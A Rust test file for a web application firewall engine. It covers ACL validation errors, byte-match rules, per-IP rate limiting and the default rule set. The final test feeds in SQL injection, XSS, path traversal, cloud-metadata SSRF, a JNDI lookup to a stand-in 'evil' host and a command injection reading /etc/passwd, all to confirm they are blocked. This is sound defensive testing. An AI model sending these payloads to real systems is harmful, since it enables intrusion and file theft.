//! The engine's public API: WebACL validation errors, statements, rate-based rules, verdicts.

use std::net::{IpAddr, Ipv4Addr};
use std::time::{Duration, Instant};

use nuvem_waf::{Request, WafError, WebAcl};

fn req<'a>(query: &'a str, headers: &'a [(&'a str, &'a [u8])], ip: u8, at: Instant) -> Request<'a> {
    Request {
        method: "GET",
        path: "/index.html",
        query,
        headers,
        body: b"",
        body_oversize: false,
        client_ip: IpAddr::V4(Ipv4Addr::new(198, 51, 100, ip)),
        at,
    }
}

const UA: &[(&str, &[u8])] = &[("User-Agent", b"Mozilla/5.0")];

#[track_caller]
fn check_invalid(json: &str, field: &str, parameter: &str) {
    match WebAcl::from_json(json) {
        Err(WafError::InvalidParameter {
            field: f,
            parameter: p,
            ..
        }) => {
            assert_eq!((f, p.as_str()), (field, parameter), "{json}");
        }
        other => panic!("expected InvalidParameter for {json}, got {other:?}"),
    }
}

fn acl_with(rule: &str) -> String {
    format!(r#"{{"Name":"t","DefaultAction":{{"Allow":{{}}}},"Rules":[{rule}]}}"#)
}

#[test]
fn validation_errors_name_the_field() {
    check_invalid(r#"{"Name":"t"}"#, "WEB_ACL", "WebACL");
    check_invalid(
        r#"{"Name":"t","DefaultAction":{"Count":{}}}"#,
        "WAF_ACTION",
        "DefaultAction",
    );
    check_invalid(
        &acl_with(
            r#"{"Name":"r","Priority":1,"Action":{"Block":{}},"Statement":{"ByteMatchStatement":{"SearchString":"","FieldToMatch":{"UriPath":{}},"TextTransformations":[{"Priority":0,"Type":"NONE"}],"PositionalConstraint":"CONTAINS"}}}"#,
        ),
        "BYTE_MATCH_STATEMENT",
        "Rules[0].Statement.ByteMatchStatement.SearchString",
    );
    check_invalid(
        &acl_with(
            r#"{"Name":"r","Priority":1,"Action":{"Block":{}},"Statement":{"XssMatchStatement":{"FieldToMatch":{"UriPath":{},"Method":{}},"TextTransformations":[{"Priority":0,"Type":"NONE"}]}}}"#,
        ),
        "FIELD_TO_MATCH",
        "Rules[0].Statement.XssMatchStatement.FieldToMatch",
    );
    check_invalid(
        &acl_with(
            r#"{"Name":"r","Priority":1,"Action":{"Block":{}},"Statement":{"RateBasedStatement":{"Limit":5,"AggregateKeyType":"IP"}}}"#,
        ),
        "RATE_BASED_STATEMENT",
        "Rules[0].Statement.RateBasedStatement.Limit",
    );
    check_invalid(
        &acl_with(
            r#"{"Name":"r","Priority":1,"Action":{"Block":{}},"Statement":{"SqliMatchStatement":{"FieldToMatch":{"QueryString":{}},"TextTransformations":[{"Priority":0,"Type":"NOPE"}]}}}"#,
        ),
        "STATEMENT",
        "Rules[0].Statement.SqliMatchStatement.TextTransformations[0].Type",
    );
}

#[test]
fn byte_match_with_transformations_blocks_with_custom_response() {
    let acl = WebAcl::from_json(&acl_with(r#"{"Name":"admin","Priority":1,"Action":{"Block":{"CustomResponse":{"ResponseCode":418}}},"RuleLabels":[{"Name":"x:admin"}],"Statement":{"ByteMatchStatement":{"SearchString":"admin","FieldToMatch":{"SingleQueryArgument":{"Name":"page"}},"TextTransformations":[{"Priority":1,"Type":"LOWERCASE"},{"Priority":0,"Type":"URL_DECODE"}],"PositionalConstraint":"EXACTLY"}}}"#)).unwrap();
    let now = Instant::now();
    let v = acl.evaluate(&req("page=%41dmin", UA, 1, now));
    assert!(
        matches!(v.action, nuvem_waf::Action::Block(ref b) if b.status == 418),
        "{v:?}"
    );
    assert_eq!(
        (v.terminating_rule.as_str(), v.labels.clone()),
        ("admin", vec!["x:admin".to_string()])
    );
    assert!(!acl.evaluate(&req("page=home", UA, 1, now)).is_blocked());
    assert_eq!(acl.rule_stats()[0].blocked, 1);
    assert_eq!(acl.sampled_requests().len(), 1);
}

#[test]
fn rate_based_rule_blocks_over_the_limit_per_ip_and_recovers() {
    let acl = WebAcl::from_json(&acl_with(r#"{"Name":"flood","Priority":1,"Action":{"Block":{}},"Statement":{"RateBasedStatement":{"Limit":10,"EvaluationWindowSec":60,"AggregateKeyType":"IP"}}}"#)).unwrap();
    let t0 = Instant::now();
    let blocked: Vec<bool> = (0..12)
        .map(|_| acl.evaluate(&req("", UA, 1, t0)).is_blocked())
        .collect();
    assert_eq!(
        blocked.iter().filter(|b| **b).count(),
        2,
        "the 11th and 12th requests are over 10"
    );
    // Another client is unaffected by the flood.
    assert!(!acl.evaluate(&req("", UA, 2, t0)).is_blocked());
    // Once the window has slid past the burst, the flooder is let through again.
    assert!(
        !acl.evaluate(&req("", UA, 1, t0 + Duration::from_secs(61)))
            .is_blocked()
    );
}

#[test]
fn default_acl_blocks_attacks_and_passes_ordinary_values() {
    let acl = WebAcl::default_for_distribution();
    let now = Instant::now();
    for q in [
        "q=1'%20OR%20'1'='1",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "f=../../etc/passwd",
        "u=http://169.254.169.254/latest/meta-data/",
        "x=${jndi:ldap://evil/a}",
        "c=;cat%20/etc/passwd",
    ] {
        assert!(acl.evaluate(&req(q, UA, 3, now)).is_blocked(), "{q}");
    }
    for q in [
        "q=O'Brien",
        "q=select+a+plan",
        "q=fish+%26+chips",
        "email=ana%40example.com",
    ] {
        assert!(!acl.evaluate(&req(q, UA, 3, now)).is_blocked(), "{q}");
    }
}
